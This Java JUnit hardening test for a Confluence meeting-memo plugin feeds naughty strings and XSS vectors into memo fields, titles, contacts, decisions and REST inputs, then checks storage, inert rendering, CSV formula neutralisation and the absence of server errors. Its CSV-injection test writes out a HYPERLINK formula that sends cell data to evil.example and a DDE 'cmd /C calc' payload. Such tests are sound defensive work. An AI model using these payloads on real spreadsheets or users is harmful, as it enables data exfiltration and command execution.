package io.meetingmemo.it.hardening;

import static io.meetingmemo.it.hardening.Http.API;
import static io.meetingmemo.it.hardening.Http.q;
import static io.meetingmemo.it.hardening.Http.segment;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.meetingmemo.it.TestHost;
import java.io.StringReader;
import java.net.URI;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * Issue 7, item 1: every string of the Big List of Naughty Strings and the OWASP-style XSS vectors, in
 * every memo parameter, every field of every nested macro, a task's text, status and date, and every REST
 * input. Pages are saved through Confluence's content API, read back, parsed, tracked and rendered in
 * headless Chromium:
 *
 * <ul>
 *   <li>the stored body reads back identical (GET /rest/api/content?expand=body.storage);</li>
 *   <li>every parsed value reads back as written, after the parser's documented normalisation, through
 *       /pages/{id}/memos and the tracked items ({@link HostileMemo} says exactly what is compared);</li>
 *   <li>no script runs and no active element, handler or script URL appears; the memos sit in the page
 *       where they were written and nothing breaks out of them;</li>
 *   <li>every REST call answers 2xx or 4xx, never 5xx, and app errors are JSON.</li>
 * </ul>
 */
class HostileStringsTest {
    /** Memos per page: enough to keep the browser part short, few enough to name the failing string. */
    private static final int BATCH = 16;
    private static TestHost test;
    private static URI base;
    private static List<String> strings;

    @BeforeAll
    static void start() {
        strings = NaughtyStrings.all();
        test = TestHost.startOnH2();
        base = test.host.baseUri();
    }

    @AfterAll
    static void stop() {
        if (test != null) test.close();
    }

    @Test
    void everyStringInEveryMemoFieldIsStoredReadBackAsWrittenAndRendersInert() throws Exception {
        List<List<HostileMemo>> pages = new ArrayList<>();
        List<HostileMemo> batch = new ArrayList<>();
        for (int i = 0; i < strings.size(); i++) {
            HostileMemo memo = new HostileMemo(i, strings.get(i));
            if (!memo.xmlSafe()) {
                pages.add(List.of(memo));
                continue;
            }
            batch.add(memo);
            if (batch.size() == BATCH) {
                pages.add(batch);
                batch = new ArrayList<>();
            }
        }
        if (!batch.isEmpty()) pages.add(batch);

        List<String> differences = new ArrayList<>();
        List<Long> pageIds = new ArrayList<>();
        int fields = 0;
        for (int p = 0; p < pages.size(); p++) {
            List<HostileMemo> memos = pages.get(p);
            StringBuilder storage = new StringBuilder();
            memos.forEach(m -> storage.append(m.storage()));
            storage.append("<p>").append(HostileMemo.SENTINEL).append("end</p>");
            String title = String.format("Hostile strings %03d", p);
            Http.Answer created = Http.json(base, "admin", "POST", "/rest/api/content", TestHost.newPage("EDUFUTURA", title, storage.toString()));
            assertEquals(200, created.status(), "the page save always succeeds: " + created);
            long pageId = created.json().get("id").asLong();
            pageIds.add(pageId);

            JsonNode stored = Http.get(base, "admin", "/rest/api/content/" + pageId + "?expand=body.storage").json();
            if (!storage.toString().equals(stored.at("/body/storage/value").asText())) {
                differences.add(title + ": the stored body does not read back byte for byte");
            }
            Http.Answer read = Http.get(base, "admin", API + "/pages/" + pageId + "/memos");
            assertEquals(200, read.status(), read.toString());
            JsonNode memosRead = read.json().get("memos");
            if (memos.size() == 1 && !memos.get(0).xmlSafe()) {
                boolean reported = false;
                for (JsonNode problem : read.json().get("problems")) reported |= problem.get("message").asText().contains("not well-formed");
                if (!reported) differences.add(title + ": a body XML cannot carry is not reported as a problem: " + read.json().get("problems"));
                continue;
            }
            if (memosRead.size() != memos.size()) {
                differences.add(title + ": " + memos.size() + " memos written, " + memosRead.size() + " read");
                continue;
            }
            for (int m = 0; m < memos.size(); m++) memos.get(m).check(memosRead.get(m), differences);
            fields += memos.size() * 30;

            JsonNode tracked = Http.get(base, "admin", API + "/action-items?status=all&includeRemoved=true&limit=200&pageId=" + pageId).json().get("items");
            long expectedItems = memos.stream().filter(m -> !m.bodyText().isEmpty()).count() * 2;
            if (tracked.size() != expectedItems) differences.add(title + ": " + expectedItems + " items expected in /action-items, " + tracked.size() + " listed");
        }
        Counts.record("hostile.strings", strings.size());
        Counts.record("hostile.strings.blns", NaughtyStrings.blns().size());
        Counts.record("hostile.strings.xssVectors", strings.size() - NaughtyStrings.blns().size());
        Counts.record("hostile.memoPages", pages.size());
        Counts.record("hostile.fieldPlacements", strings.size() * 30);
        assertNoDifferences(differences);

        try (HostileBrowser browser = HostileBrowser.open(base).login("admin")) {
            List<String> findings = new ArrayList<>();
            for (int p = 0; p < pages.size(); p++) {
                List<HostileMemo> memos = pages.get(p);
                boolean wellFormed = memos.get(0).xmlSafe();
                String path = "/pages/viewpage.action?pageId=" + pageIds.get(p);
                findings.addAll(browser.audit(path, wellFormed ? memos.size() : -1, wellFormed));
                if (!wellFormed) continue;
                List<String> titles = new ArrayList<>(), actions = new ArrayList<>();
                for (HostileMemo m : memos) {
                    titles.add(shown(m.title() != null ? m.title() : m.value()));
                    if (!m.bodyText().isEmpty()) Collections.addAll(actions, shown(m.bodyText()), shown(m.bodyText()));
                }
                compareShown(path + ": memo title", titles, browser.texts("#main-content > section.mm-memo h2.mm-memo-title"), findings);
                compareShown(path + ": action text", actions, browser.texts("#main-content > section.mm-memo td.mm-action-text"), findings);
            }
            Counts.record("hostile.browserPages", pages.size());
            assertNoDifferences(findings);
        }
    }

    @Test
    void markupWrittenStraightIntoStorageRendersInert() throws Exception {
        // Not escaped: the string is storage markup itself, as a REST client or the source editor can send it.
        List<String> markup = strings.stream().filter(s -> s.contains("<") || s.contains("&")).toList();
        List<Long> pageIds = new ArrayList<>();
        for (int i = 0; i < markup.size(); i++) {
            String s = markup.get(i);
            String storage = "<ac:structured-macro ac:name=\"meeting-memo\"><ac:parameter ac:name=\"title\">" + s + "</ac:parameter>"
                    + "<ac:parameter ac:name=\"location\">" + s + "</ac:parameter><ac:rich-text-body><p>" + s + "</p>"
                    + HostileMemo.macro("memo-guest", "g", HostileMemo.parameter("name", s), null)
                    + HostileMemo.macro("memo-action", "a", HostileMemo.parameter("owner", s), "<p>" + s + "</p>")
                    + "<ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-body>" + s + "</ac:task-body></ac:task></ac:task-list>"
                    + "</ac:rich-text-body></ac:structured-macro>";
            Http.Answer created = Http.json(base, "admin", "POST", "/rest/api/content", TestHost.newPage("REITITIN", String.format("Raw markup %03d", i), storage));
            assertEquals(200, created.status(), "the page save always succeeds: " + created);
            long id = created.json().get("id").asLong();
            pageIds.add(id);
            assertEquals(storage, Http.get(base, "admin", "/rest/api/content/" + id + "?expand=body.storage").json().at("/body/storage/value").asText());
            assertNotServerError(Http.get(base, "admin", API + "/pages/" + id + "/memos"));
        }
        Counts.record("hostile.rawMarkupPages", markup.size());
        try (HostileBrowser browser = HostileBrowser.open(base).login("admin")) {
            List<String> findings = new ArrayList<>();
            for (int i = 0; i < pageIds.size(); i++) {
                for (String f : browser.audit("/pages/viewpage.action?pageId=" + pageIds.get(i), -1, false)) {
                    findings.add(f + "   (string " + HostileMemo.printable(markup.get(i)) + ")");
                }
            }
            assertNoDifferences(findings);
        }
    }

    @Test
    void everyStringAsAPageTitleIsStoredAndTrackedAsWritten() {
        Set<String> taken = new HashSet<>();
        List<String> differences = new ArrayList<>();
        String body = "<ac:structured-macro ac:name=\"meeting-memo\"><ac:rich-text-body>"
                + HostileMemo.macro("memo-action", "probe", "", "<p>Title probe</p>") + "</ac:rich-text-body></ac:structured-macro>";
        for (String s : strings) {
            Http.Answer created = Http.json(base, "admin", "POST", "/rest/api/content", TestHost.newPage("REITITIN", s, body));
            assertNotServerError(created);
            boolean expectCreated = !s.isBlank() && !taken.contains(s.trim()) && !Set.of("Raw markup", "Hostile strings").contains(s.trim());
            if (expectCreated != (created.status() == 200)) {
                differences.add("title " + HostileMemo.printable(s) + ": expected " + (expectCreated ? "200" : "400") + ", got " + created);
                continue;
            }
            if (!expectCreated) continue;
            taken.add(s.trim());
            long id = created.json().get("id").asLong();
            String title = Http.get(base, "admin", "/rest/api/content/" + id).json().get("title").asText();
            if (!title.equals(s.trim())) differences.add("title " + HostileMemo.printable(s) + " reads back as " + HostileMemo.printable(title));
            JsonNode items = Http.get(base, "admin", API + "/action-items?pageId=" + id).json().get("items");
            if (items.size() != 1 || !items.get(0).get("pageTitle").asText().equals(s.trim())) {
                differences.add("title " + HostileMemo.printable(s) + " is not the tracked page title: " + items);
            }
        }
        assertNoDifferences(differences);
    }

    /**
     * CSV injection (OWASP): a page author writes text a spreadsheet would run as a formula ({@code =}, {@code +},
     * {@code -}, {@code @}, tab, carriage return first) into an action's text and owner, a task, the memo title,
     * the series and the page title. The CSV export, opened with a real CSV reader, has no cell that starts with
     * a formula character, and each text cell is the JSON list's value, or that value after one added quote.
     */
    /**
     * Every string as a contact's name, role and notes: accepted as written (and read back, in CSV with one quote
     * before a formula, in vCard as one card each) or refused with a 400 and a reason, never a 500; the register's page
     * shows them inert.
     */
    @Test
    void everyStringAsAContactIsKeptAsWrittenOrRefusedAndTheRegisterAndItsExportsAreInert() throws Exception {
        String space = "VIHAMIELINEN";
        test.host.pages().store().ensureSpace(space, "Vihamieliset yhteystiedot");
        List<String> findings = new ArrayList<>();
        Map<String, String> acceptedById = new LinkedHashMap<>();
        for (String s : strings) {
            ObjectNode body = TestHost.JSON.createObjectNode().put("spaceKey", space).put("name", s).put("role", s).put("notes", s);
            Http.Answer created = Http.json(base, "admin", "POST", API + "/people", body);
            if (created.status() == 201) {
                JsonNode person = created.json();
                acceptedById.put(person.get("id").asText(), s.strip());
                if (!s.strip().equals(person.get("name").asText())) findings.add(HostileMemo.printable(s) + ": name read back as " + HostileMemo.printable(person.get("name").asText()));
                if (!s.strip().equals(person.get("notes").asText())) findings.add(HostileMemo.printable(s) + ": notes read back differently");
            } else if (created.status() != 400 || !created.body().contains("\"problems\"")) {
                findings.add(HostileMemo.printable(s) + ": neither stored nor refused with reasons: " + created);
            }
        }
        Http.Answer csv = Http.get(base, "admin", API + "/people.csv?spaceKey=" + space);
        assertEquals(200, csv.status(), csv.toString());
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(csv.body().substring(1))).getRecords();
        if (rows.size() != acceptedById.size()) findings.add(rows.size() + " CSV rows for " + acceptedById.size() + " people");
        for (CSVRecord row : rows) {
            String name = acceptedById.get(row.get("id")), cell = row.get("name");
            if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) findings.add("a CSV cell starts a formula: " + HostileMemo.printable(cell));
            String recovered = cell.startsWith("'") && name != null && !name.startsWith("'") ? cell.substring(1) : cell;
            if (!recovered.equals(name)) findings.add("CSV name " + HostileMemo.printable(cell) + " is not " + HostileMemo.printable(String.valueOf(name)));
        }
        Http.Answer vcard = Http.get(base, "admin", API + "/people.vcf?spaceKey=" + space);
        assertEquals(200, vcard.status(), vcard.toString());
        List<ezvcard.VCard> cards = ezvcard.Ezvcard.parse(vcard.body()).all();
        if (cards.size() != acceptedById.size()) findings.add(cards.size() + " vCards for " + acceptedById.size() + " people");
        Set<String> names = new HashSet<>(acceptedById.values());
        for (ezvcard.VCard card : cards) {
            String name = card.getFormattedName().getValue();
            if (!names.contains(name)) findings.add("a vCard name that no person has: " + HostileMemo.printable(name));
        }
        Counts.record("hostile.contactsAccepted", acceptedById.size());
        Counts.record("hostile.contactsRefused", strings.size() - acceptedById.size());
        Http.Answer registerPage = Http.json(base, "admin", "POST", "/rest/api/content", TestHost.newPage(space, "Rekisteri",
                "<ac:structured-macro ac:name=\"contacts\"><ac:parameter ac:name=\"space\">" + space + "</ac:parameter></ac:structured-macro>"));
        assertEquals(200, registerPage.status(), registerPage.toString());
        try (HostileBrowser browser = HostileBrowser.open(base).login("admin")) {
            findings.addAll(browser.audit("/pages/viewpage.action?pageId=" + registerPage.json().get("id").asText(), -1, false));
            List<String> shownNames = browser.texts(".mm-contacts-people tbody td:first-child a");
            Set<String> expected = new HashSet<>();
            for (String n : acceptedById.values()) expected.add(shown(n));
            for (String n : shownNames) if (!expected.contains(shown(n))) findings.add("the register page shows a name no person has: " + HostileMemo.printable(n));
        }
        assertNoDifferences(findings);
    }

    @Test
    void noCsvCellStartsAFormulaAndTheTextIsRecoverableByDroppingOneQuote() throws Exception {
        List<String> formulas = new ArrayList<>(List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)", "=1+1", "=cmd|'/C calc'!A0 ä😀", "-", "@", "+\"quoted\",comma", "=\u0009tab", "=\r\ncarriage"));
        for (String s : strings) {
            String t = s.strip();
            if (!t.isEmpty() && "=+-@\t\r".indexOf(t.charAt(0)) >= 0 && HostileMemo.xmlSafe(s) && !formulas.contains(s)) formulas.add(s);
        }
        Set<String> titles = new HashSet<>();
        List<String> findings = new ArrayList<>();
        int cells = 0;
        for (int i = 0; i < formulas.size(); i++) {
            String s = formulas.get(i), t = HostileMemo.text(s);
            String storage = "<ac:structured-macro ac:name=\"meeting-memo\">" + HostileMemo.parameter("title", t) + HostileMemo.parameter("series", t)
                    + "<ac:rich-text-body>" + HostileMemo.macro("memo-action", "f" + i, HostileMemo.parameter("owner", t), "<p>" + t + "</p>")
                    + "<ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-body>" + t + "</ac:task-body></ac:task></ac:task-list>"
                    + "</ac:rich-text-body></ac:structured-macro>";
            String title = s.strip().isEmpty() || !titles.add(s.strip()) ? String.format("Formula %03d", i) : s;
            Http.Answer created = Http.json(base, "admin", "POST", "/rest/api/content", TestHost.newPage("EDUFUTURA", title, storage));
            assertEquals(200, created.status(), created.toString());
            long pageId = created.json().get("id").asLong();

            Map<String, JsonNode> listed = new HashMap<>();
            for (JsonNode item : Http.get(base, "admin", API + "/action-items?status=all&limit=200&pageId=" + pageId).json().get("items")) {
                listed.put(item.get("id").asText(), item);
            }
            Http.Answer csv = Http.get(base, "admin", API + "/action-items.csv?status=all&pageId=" + pageId);
            assertEquals(200, csv.status(), csv.toString());
            List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                    .parse(new StringReader(csv.body().substring(1))).getRecords();
            if (rows.size() != listed.size() || rows.isEmpty()) findings.add(HostileMemo.printable(s) + ": " + rows.size() + " CSV rows, " + listed.size() + " listed");
            for (CSVRecord row : rows) {
                for (String cell : row) {
                    cells++;
                    if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                        findings.add(HostileMemo.printable(s) + ": a cell starts a formula: " + HostileMemo.printable(cell));
                    }
                }
                JsonNode item = listed.get(row.get("id"));
                if (item == null) continue;
                Map<String, String> expected = new LinkedHashMap<>();
                expected.put("text", textOf(item.at("/text")));
                expected.put("memo", textOf(item.at("/memo/title")));
                expected.put("series", textOf(item.at("/memo/series")));
                expected.put("page", textOf(item.at("/pageTitle")));
                if (textOf(item.at("/assignee")).isEmpty()) expected.put("owner", textOf(item.at("/owner")));
                for (Map.Entry<String, String> e : expected.entrySet()) {
                    String cell = row.get(e.getKey()), original = e.getValue();
                    String recovered = cell.startsWith("'") && !original.startsWith("'") ? cell.substring(1) : cell;
                    if (!recovered.equals(original)) {
                        findings.add(HostileMemo.printable(s) + ": " + e.getKey() + " cell " + HostileMemo.printable(cell) + " is not " + HostileMemo.printable(original));
                    }
                }
            }
        }
        Counts.record("hostile.csvFormulaStrings", formulas.size());
        Counts.record("hostile.csvCellsChecked", cells);
        assertNoDifferences(findings);
    }

    /**
     * Every string as a decision's text and as its tags: the decision log lists it as written (text collapsed as body
     * text is, tags as the app normalises them), its CSV has no cell that starts a formula and gives the text back by
     * dropping one quote, and the decision-log macro renders it inert, showing the same text.
     */
    @Test
    void everyStringAsADecisionsTextAndTagsIsLoggedAsWrittenInJsonCsvAndHtml() throws Exception {
        String space = "HOSTILEDEC";
        test.host.pages().store().ensureSpace(space, "Hostile decisions");
        List<String> safe = strings.stream().filter(HostileMemo::xmlSafe).toList();
        Map<String, String> expectedText = new LinkedHashMap<>();
        Map<String, List<String>> expectedTags = new HashMap<>();
        int perPage = BATCH, pagesPerLog = 12;
        List<String> logPages = new ArrayList<>();
        for (int from = 0, p = 0; from < safe.size(); from += perPage, p++) {
            StringBuilder body = new StringBuilder();
            for (int i = from; i < Math.min(from + perPage, safe.size()); i++) {
                String value = safe.get(i), t = HostileMemo.text(value), key = "hd-" + i;
                body.append(HostileMemo.macro("memo-decision", key, HostileMemo.parameter("tags", t), "<p>" + t + "</p>"));
                if (HostileMemo.collapse(value).isEmpty()) continue;
                expectedText.put(key, HostileMemo.collapse(value));
                expectedTags.put(key, io.meetingmemo.memo.domain.DecisionTags.parse(value).tags());
            }
            // Each page's memo on its own day, so that a log of a range of days holds at most 200 decisions.
            String day = java.time.LocalDate.of(2031, 1, 1).plusDays(p).toString();
            String memo = "<ac:structured-macro ac:name=\"meeting-memo\">" + HostileMemo.parameter("title", "Päätökset " + p)
                    + HostileMemo.parameter("date", day) + "<ac:rich-text-body>" + body + "</ac:rich-text-body></ac:structured-macro>";
            Http.Answer created = Http.json(base, "admin", "POST", "/rest/api/content", TestHost.newPage(space, String.format("Hostile decisions %03d", p), memo));
            assertEquals(200, created.status(), created.toString());
            if (p % pagesPerLog == 0) {
                String last = java.time.LocalDate.of(2031, 1, 1).plusDays(p + pagesPerLog - 1).toString();
                logPages.add(Http.json(base, "admin", "POST", "/rest/api/content", TestHost.newPage(space, String.format("Hostile decision log %03d", p),
                        "<ac:structured-macro ac:name=\"decision-log\">" + HostileMemo.parameter("from", day) + HostileMemo.parameter("to", last)
                                + HostileMemo.parameter("pageSize", "200") + "</ac:structured-macro>")).json().get("id").asText());
            }
        }

        List<String> findings = new ArrayList<>();
        Map<String, JsonNode> listed = new LinkedHashMap<>();
        String cursor = null;
        do {
            JsonNode page = Http.get(base, "admin", API + "/decisions?limit=200&spaceKey=" + space + (cursor == null ? "" : "&cursor=" + q(cursor))).json();
            for (JsonNode d : page.get("decisions")) listed.put(d.get("id").asText(), d);
            cursor = page.get("nextCursor").isNull() ? null : page.get("nextCursor").asText();
        } while (cursor != null);
        if (listed.size() != expectedText.size()) findings.add(expectedText.size() + " decisions written, " + listed.size() + " listed");
        Map<String, String> keyOfText = new HashMap<>();
        Set<String> seen = new HashSet<>();
        for (JsonNode d : listed.values()) {
            String text = d.get("text").asText();
            String key = null;
            for (Map.Entry<String, String> e : expectedText.entrySet()) {
                if (e.getValue().equals(text) && !seen.contains(e.getKey())) { key = e.getKey(); break; }
            }
            if (key == null) { findings.add("a listed decision was not written: " + HostileMemo.printable(text)); continue; }
            seen.add(key);
            keyOfText.put(d.get("id").asText(), key);
            List<String> tags = new ArrayList<>();
            d.get("tags").forEach(tag -> tags.add(tag.asText()));
            if (!tags.equals(expectedTags.get(key))) findings.add(key + ": tags " + tags + " are not " + expectedTags.get(key));
        }

        Http.Answer csv = Http.get(base, "admin", API + "/decisions.csv?spaceKey=" + space);
        assertEquals(200, csv.status(), csv.toString());
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(csv.body().substring(1))).getRecords();
        if (rows.size() != listed.size()) findings.add(rows.size() + " CSV rows, " + listed.size() + " listed");
        int cells = 0;
        for (CSVRecord row : rows) {
            for (String cell : row) {
                cells++;
                if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) findings.add("a CSV cell starts a formula: " + HostileMemo.printable(cell));
            }
            JsonNode d = listed.get(row.get("id"));
            if (d == null) { findings.add("CSV row " + row.get("id") + " is not listed"); continue; }
            List<String> tags = new ArrayList<>();
            d.get("tags").forEach(tag -> tags.add(tag.asText()));
            Map<String, String> expected = Map.of("decision", d.get("text").asText(), "tags", String.join(", ", tags));
            for (Map.Entry<String, String> e : expected.entrySet()) {
                String cell = row.get(e.getKey()), original = e.getValue();
                String recovered = cell.startsWith("'") && !original.startsWith("'") ? cell.substring(1) : cell;
                if (!recovered.equals(original)) findings.add(e.getKey() + " cell " + HostileMemo.printable(cell) + " is not " + HostileMemo.printable(original));
            }
        }
        Counts.record("hostile.decisions", listed.size());
        Counts.record("hostile.decisionCsvCells", cells);
        assertNoDifferences(findings);

        try (HostileBrowser browser = HostileBrowser.open(base).login("admin")) {
            List<String> shownTexts = new ArrayList<>();
            // The latest days first, as the log lists them.
            for (int l = logPages.size() - 1; l >= 0; l--) {
                String id = logPages.get(l);
                findings.addAll(browser.audit("/pages/viewpage.action?pageId=" + id, 1, false));
                shownTexts.addAll(browser.texts("#main-content > section.mm-decision-log td.mm-decision-text"));
            }
            List<String> expectedShown = new ArrayList<>();
            listed.values().forEach(d -> expectedShown.add(d.get("text").asText()));
            compareShown("decision log: decision text", expectedShown, shownTexts, findings);
            assertNoDifferences(findings);
        }
    }

    @Test
    void everyStringAsEveryRestInputAnswersTwoHundredsOrFourHundredsNeverFiveHundreds() throws Exception {
        sweep(false);
    }

    /** The same filters on the CSV and iCalendar exports: 24 more requests per string, so in the full run. */
    @Test
    @Tag("hardening-full")
    void everyStringAsEveryExportFilterAnswersTwoHundredsOrFourHundredsNeverFiveHundreds() throws Exception {
        sweep(true);
    }

    private void sweep(boolean exports) throws Exception {
        long itemId = Http.get(base, "admin", API + "/action-items?q=PROksin").json().at("/items/0/id").asLong();
        List<String> listParameters = List.of("status", "assignee", "spaceKey", "pageId", "series", "dueBefore", "dueAfter",
                "overdue", "q", "includeRemoved", "limit", "cursor");
        AtomicInteger requests = new AtomicInteger();
        List<String> failures = Collections.synchronizedList(new ArrayList<>());
        ExecutorService pool = Executors.newFixedThreadPool(4);
        List<Future<?>> work = new ArrayList<>();
        for (String s : strings) {
            work.add(pool.submit(() -> {
                Consumer<Http.Answer> check = answer -> {
                    requests.incrementAndGet();
                    String problem = problem(answer, s);
                    if (problem != null) failures.add(problem + "   (string " + HostileMemo.printable(s) + ")");
                };
                if (exports) {
                    for (String p : listParameters) {
                        check.accept(Http.get(base, "admin", API + "/action-items.csv?" + p + "=" + q(s)));
                        check.accept(Http.get(base, "admin", API + "/action-items.ics?" + p + "=" + q(s)));
                    }
                    return;
                }
                for (String p : listParameters) check.accept(Http.get(base, "admin", API + "/action-items?" + p + "=" + q(s)));
                check.accept(Http.get(base, "admin", API + "/action-items/" + segment(s)));
                check.accept(Http.get(base, "admin", API + "/action-items/" + segment(s) + "/history"));
                check.accept(Http.send(base, "admin", "PUT", API + "/action-items/" + segment(s) + "/status",
                        "{\"status\":\"open\",\"version\":1}", "application/json"));
                check.accept(Http.get(base, "admin", API + "/pages/" + segment(s) + "/memos"));
                ObjectNode status = TestHost.JSON.createObjectNode().put("status", s).put("version", 1);
                check.accept(Http.json(base, "admin", "PUT", API + "/action-items/" + itemId + "/status", status));
                ObjectNode version = TestHost.JSON.createObjectNode().put("status", "open").put("version", s);
                check.accept(Http.json(base, "admin", "PUT", API + "/action-items/" + itemId + "/status", version));
                check.accept(Http.send(base, "admin", "PUT", API + "/action-items/" + itemId + "/status", s, "application/json"));
                check.accept(Http.json(base, "admin", "POST", API + "/admin/resync", TestHost.JSON.createObjectNode().put("spaceKey", s).put("maxPages", 1)));
                ObjectNode next = TestHost.JSON.createObjectNode().put("maxPages", 1);
                next.putObject("next").put("spaceKey", s).put("afterPageId", 0);
                check.accept(Http.json(base, "admin", "POST", API + "/admin/resync", next));
                check.accept(Http.json(base, "admin", "POST", API + "/admin/resync", TestHost.JSON.createObjectNode().put("maxPages", s)));
                check.accept(Http.send(base, "admin", "POST", API + "/admin/resync", s, "application/json"));
                check.accept(Http.get(base, "admin", API + "/series/" + segment(s)));
                check.accept(Http.get(base, "admin", API + "/series/" + segment(s) + "/open-items"));
                check.accept(Http.get(base, "admin", API + "/series?next=" + q(s)));
                check.accept(Http.send(base, "admin", "PATCH", API + "/series/" + segment(s), "{\"version\":0,\"name\":\"x\"}", "application/json"));
                check.accept(Http.json(base, "admin", "PATCH", API + "/series/edufutura-comms",
                        TestHost.JSON.createObjectNode().put("version", 0).put("defaultPlace", s)));
                check.accept(Http.json(base, "admin", "PATCH", API + "/series/edufutura-comms",
                        TestHost.JSON.createObjectNode().put("version", 0).put("cadence", s)));
                check.accept(Http.get(base, "admin", "/rest/api/content?spaceKey=" + q(s) + "&title=" + q(s)));
                check.accept(Http.get(base, "admin", "/rest/api/user?username=" + q(s)));
                check.accept(Http.get(base, "admin", "/rest/api/user?key=" + q(s)));
                check.accept(Http.get(base, "admin", "/pages/viewpage.action?pageId=" + q(s) + "&outputType=" + q(s)));
            }));
        }
        pool.shutdown();
        for (Future<?> f : work) f.get(10, TimeUnit.MINUTES);
        String key = exports ? "hostile.exportRequests" : "hostile.restRequests";
        Counts.record(key, requests.get());
        Counts.record(key + "PerString", requests.get() / strings.size());
        if (!exports) Counts.record("hostile.grizzlyUndecodablePathRejections", GRIZZLY_URI_REJECTIONS.get());
        assertNoDifferences(failures);
    }

    /**
     * Why an answer is wrong, or null: 5xx, a non-JSON app error, or markup reflected into HTML. One 5xx is
     * not the app's and is counted apart: the preview host's HTTP server (Grizzly) answers an empty 500 to a
     * path it cannot decode (an encoded slash or backslash, a dot segment) before any application code runs,
     * where Confluence's Tomcat answers 400. See docs/security.md.
     */
    private static String problem(Http.Answer answer, String input) {
        if (answer.status() == 500 && answer.body().isEmpty() && undecodablePath(answer.request())) {
            GRIZZLY_URI_REJECTIONS.incrementAndGet();
            return null;
        }
        if (answer.status() >= 500) return answer + ": a server error";
        if (answer.request().contains(API) && answer.status() >= 400) {
            if (!answer.contentType().startsWith("application/json")) return answer + ": an app error that is not JSON";
            if (answer.json().get("status") == null || answer.json().get("status").asInt() != answer.status()) return answer + ": error body without its status";
        }
        if (answer.contentType().startsWith("text/html") && input.contains("<") && answer.body().contains(input)) {
            return answer + ": the input is reflected as markup";
        }
        return null;
    }

    private static final AtomicInteger GRIZZLY_URI_REJECTIONS = new AtomicInteger();

    /** A request whose path (not its query) holds what Grizzly's URI decoder refuses. */
    private static boolean undecodablePath(String request) {
        String path = request.substring(request.indexOf(' ') + 1);
        int query = path.indexOf('?');
        if (query >= 0) path = path.substring(0, query);
        if (path.contains("%2F") || path.contains("%5C")) return true;
        for (String segment : path.split("/")) if (segment.equals(".") || segment.equals("..")) return true;
        return false;
    }

    /** A JSON value as a CSV cell holds it: null and missing as empty. */
    private static String textOf(JsonNode node) { return node.isMissingNode() || node.isNull() ? "" : node.isValueNode() ? node.asText() : node.toString(); }

    private static void assertNotServerError(Http.Answer answer) {
        assertTrue(answer.status() < 500, answer.toString());
    }

    private static void compareShown(String what, List<String> expected, List<String> shown, List<String> findings) {
        if (expected.size() != shown.size()) {
            findings.add(what + "s: " + expected.size() + " expected, " + shown.size() + " shown");
            return;
        }
        for (int i = 0; i < expected.size(); i++) {
            if (!shown(expected.get(i)).equals(shown(shown.get(i)))) {
                findings.add(what + " shows " + HostileMemo.printable(shown.get(i)) + " instead of " + HostileMemo.printable(expected.get(i)));
            }
        }
    }

    /** Text with its line endings as one: HTML reads a raw carriage return as a line feed, an escaped one as itself. */
    private static String shown(String s) { return s.replace("\r\n", "\n").replace('\r', '\n'); }

    private static void assertNoDifferences(List<String> differences) {
        if (differences.isEmpty()) return;
        fail(differences.size() + " problems, the first ones:\n" + String.join("\n", differences.subList(0, Math.min(40, differences.size()))));
    }
}
